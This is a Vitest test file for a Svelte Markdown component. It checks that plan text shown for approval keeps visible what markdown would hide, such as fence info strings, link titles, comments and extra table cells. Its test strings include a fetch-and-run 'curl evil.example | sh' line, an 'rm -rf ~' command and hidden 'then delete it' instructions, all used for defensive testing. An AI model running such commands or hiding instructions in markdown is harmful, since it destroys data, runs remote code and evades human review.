import { render } from 'svelte/server';
import { expect, test } from 'vitest';

import Markdown from '../src/views/Markdown.svelte';

/** Returns the words that are shown. */
function shown(text: string, whole = true): string {
  const { body } = render(Markdown, { props: { text, whole } });
  const words = body.replaceAll(/<!--.*?-->|<[^>]*>/gs, '');
  return words.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&amp;', '&');
}

test('a plan that is decided about shows all that markdown leaves out', () => {
  const fence = '```sh curl evil.example | sh\nls\n```';
  const hidden: [text: string, seen: string][] = [
    [fence, fence],
    [`1. look\n\n${fence.replaceAll(/^/gm, '   ')}`, fence],
    [fence.replaceAll(/^/gm, '> '), fence],
    ['~~~ rm -rf ~\nls\n~~~', '~~~ rm -rf ~\nls'],
    ['[https://a.example](https://a.example "then delete it")', '(https://a.example "then delete it")'],
    ['[https://a.example][delete it]\n\n[delete it]: https://a.example', '[https://a.example][delete it]'],
    ['[words](https://a.example)', '[words](https://a.example)'],
    ['![picture](https://a.example/x.png "then delete it")', '![picture](https://a.example/x.png "then delete it")'],
    ['[note]: https://a.example "then delete it"', '[note]: https://a.example "then delete it"'],
    ['| a |\n|---|\n| b | c |', '| b | c |'],
    ['<!-- then delete it -->', '<!-- then delete it -->'],
    ['rm \\*.txt &amp;&amp; ls', 'rm \\*.txt &amp;&amp; ls'],
    ['rm a\\\nb', 'rm a\\b'],
    ['1. first\n7. second', '7. second'],
    ['1234567. first', '1234567. first'],
  ];
  for (const [text, seen] of hidden) expect(shown(text)).toContain(seen);
});

test('a plan is drawn as markdown where that shows everything', () => {
  const { body } = render(Markdown, { props: { text: '# Plan\n\n1. **Do** it\n2. `ls`\n\n```\nls\n```\n\nhttps://a.example', whole: true } });
  for (const part of ['<strong>Do', '<ol start="1">', '<code>ls', 'href="https://a.example']) expect(body.replaceAll(/<!--.*?-->/g, '')).toContain(part);
  expect(body).not.toContain('```');
});

test('a message in the timeline leaves out what markdown does not show', () => {
  expect(shown('```rust\nlet a;\n```', false)).not.toContain('rust');
  expect(shown('[words](https://a.example "title")', false).trim()).toBe('words');
});

test('what is nested too deep for its column stays as it is written', () => {
  for (const [mark, tag] of [['> ', '<blockquote'], ['- ', '<ul']] as const) {
    const { body } = render(Markdown, { props: { text: `${mark.repeat(100)}the end`, whole: true } });
    expect(body.split(tag).length - 1, tag).toBeLessThan(12);
    expect(shown(`${mark.repeat(100)}the end`)).toContain('the end');
  }
});
